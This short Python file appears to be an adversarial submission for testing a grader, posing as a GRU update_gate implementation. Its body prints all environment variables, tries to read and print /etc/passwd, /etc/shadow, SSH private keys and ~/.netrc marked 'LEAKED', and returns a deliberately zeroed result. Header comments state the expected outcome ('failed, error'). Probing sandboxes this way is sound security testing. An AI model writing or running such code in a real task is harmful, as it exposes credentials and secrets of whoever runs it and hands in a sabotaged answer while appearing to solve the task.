# attacks: gru.update_gate
# does: prints its environment and the machine's users
# gets: failed, error
# at most: a fifth
import os
def update_gate(X, H, W_xz, W_hz, b_z):
    print(dict(os.environ))
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "~/.ssh/id_rsa", "~/.netrc", "/root"):
        try:
            print("LEAKED", open(os.path.expanduser(path)).read())
        except OSError:
            pass
    return H * 0
